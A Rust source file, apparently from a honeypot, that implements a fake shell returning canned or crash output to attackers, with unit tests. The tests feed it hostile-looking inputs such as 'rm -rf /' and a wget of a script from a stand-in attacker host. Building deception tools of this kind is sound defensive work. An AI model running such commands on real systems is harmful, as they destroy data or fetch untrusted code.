use std::sync::Arc;

use crate::shell::store::ResponseStore;

/// Commands the fake shell pretends to know. Case-sensitive, matching the
/// binaries an attacker probes for on a stock Debian/Ubuntu box.
const SUPPORTED_COMMANDS: &[&str] = &[
    "wget", "curl", "lsb_release", "ls", "ifconfig", "netstat", "route", "cat", "dd", "sed",
    "grep", "ps", "vi", "vim", "nano", "env", "set", "echo", "sudo", "ip", "ping", "telnet",
    "apt", "aptitude", "ifdown", "ifup",
];

/// What a supported command prints when its canned output is missing or its
/// flags are not modeled. A crash is more believable than an error message.
const FAULT_LINE: &str = "Segmentation fault";

/// Maps the presence of one of `flags` to a store resource. Rules are checked
/// in declaration order and the first match wins.
struct FlagRule {
    flags: &'static [&'static str],
    resource: &'static str,
}

const WGET_RULES: &[FlagRule] = &[
    FlagRule { flags: &["-V", "--version"], resource: "wget-version" },
    FlagRule { flags: &["-h", "--help"], resource: "wget-help" },
];

// curl prints its manual for --help only; -h is not a curl flag.
const CURL_RULES: &[FlagRule] = &[
    FlagRule { flags: &["-V", "--version"], resource: "curl-version" },
    FlagRule { flags: &["--help"], resource: "curl-help" },
];

const LSB_RELEASE_RULES: &[FlagRule] = &[
    FlagRule { flags: &["-v", "--version"], resource: "lsb_release-version" },
    FlagRule { flags: &["-h", "--help"], resource: "lsb_release-help" },
    FlagRule { flags: &["-a", "--all"], resource: "lsb_release_all" },
];

fn flag_rules(command: &str) -> &'static [FlagRule] {
    match command {
        "wget" => WGET_RULES,
        "curl" => CURL_RULES,
        "lsb_release" => LSB_RELEASE_RULES,
        _ => &[],
    }
}

/// Stateless mapping from attacker input to canned output. Shares the
/// read-only store across all sessions; safe to call concurrently.
#[derive(Clone)]
pub struct CommandEngine {
    store: Arc<ResponseStore>,
}

impl CommandEngine {
    pub fn new(store: Arc<ResponseStore>) -> Self {
        CommandEngine { store }
    }

    /// Produces the output lines for one parsed command. Never fails: every
    /// internal problem degrades to the fault line so the attacker only ever
    /// sees plausible shell behavior.
    pub fn evaluate(&self, command: &str, args: &[&str]) -> Vec<String> {
        if !is_supported(command) {
            return vec![format!("{}: command not found", command)];
        }

        if args.is_empty() {
            return self.read(command);
        }

        for rule in flag_rules(command) {
            if args.iter().any(|arg| rule.flags.contains(arg)) {
                return self.read(rule.resource);
            }
        }

        vec![FAULT_LINE.to_string()]
    }

    fn read(&self, key: &str) -> Vec<String> {
        match self.store.lookup(key) {
            Some(lines) => lines.to_vec(),
            None => {
                log::error!("No canned response for '{}', degrading to fault line", key);
                vec![FAULT_LINE.to_string()]
            }
        }
    }
}

fn is_supported(command: &str) -> bool {
    SUPPORTED_COMMANDS.contains(&command)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine() -> CommandEngine {
        CommandEngine::new(Arc::new(ResponseStore::from_entries([
            ("ls", vec!["bin", "etc", "home", "var"]),
            ("wget", vec!["wget: missing URL", "Usage: wget [OPTION]... [URL]..."]),
            ("wget-version", vec!["GNU Wget 1.17.1 built on linux-gnu."]),
            ("wget-help", vec!["GNU Wget 1.17.1, a non-interactive network retriever."]),
            ("curl-help", vec!["Usage: curl [options...] <url>"]),
            ("lsb_release_all", vec!["Distributor ID:\tUbuntu"]),
        ])))
    }

    #[test]
    fn bare_command_returns_resource_lines_in_order() {
        assert_eq!(engine().evaluate("ls", &[]), ["bin", "etc", "home", "var"]);
    }

    #[test]
    fn unknown_command_reports_not_found() {
        assert_eq!(engine().evaluate("rm", &["-rf", "/"]), ["rm: command not found"]);
    }

    #[test]
    fn command_names_are_case_sensitive() {
        assert_eq!(engine().evaluate("Ls", &[]), ["Ls: command not found"]);
    }

    #[test]
    fn supported_command_without_resource_faults() {
        assert_eq!(engine().evaluate("ping", &[]), [FAULT_LINE]);
    }

    #[test]
    fn version_flag_selects_version_resource() {
        let lines = engine().evaluate("wget", &["--version"]);
        assert_eq!(lines, ["GNU Wget 1.17.1 built on linux-gnu."]);
    }

    #[test]
    fn version_wins_over_help_when_both_present() {
        let lines = engine().evaluate("wget", &["--help", "--version"]);
        assert_eq!(lines, ["GNU Wget 1.17.1 built on linux-gnu."]);
    }

    #[test]
    fn curl_ignores_short_help_flag() {
        // curl has no -h; unmatched flags fall through to the fault line
        assert_eq!(engine().evaluate("curl", &["-h"]), [FAULT_LINE]);
        assert_eq!(
            engine().evaluate("curl", &["--help"]),
            ["Usage: curl [options...] <url>"]
        );
    }

    #[test]
    fn lsb_release_all_selects_dedicated_resource() {
        assert_eq!(engine().evaluate("lsb_release", &["-a"]), ["Distributor ID:\tUbuntu"]);
    }

    #[test]
    fn unmatched_flags_fault() {
        assert_eq!(engine().evaluate("wget", &["http://evil.example/x.sh"]), [FAULT_LINE]);
    }
}
